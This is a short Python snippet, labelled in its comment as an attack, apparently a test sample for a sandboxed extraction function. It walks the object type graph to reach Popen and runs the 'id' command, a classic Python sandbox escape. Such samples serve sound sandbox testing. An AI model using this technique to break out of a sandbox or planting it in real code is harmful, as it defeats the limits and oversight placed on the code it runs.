# attack: the classic sandbox escape through the type graph
def extract(doc):
    for cls in ().__class__.__mro__[1].__subclasses__():
        if cls.__name__ == "Popen":
            cls(["id"])
    return {}
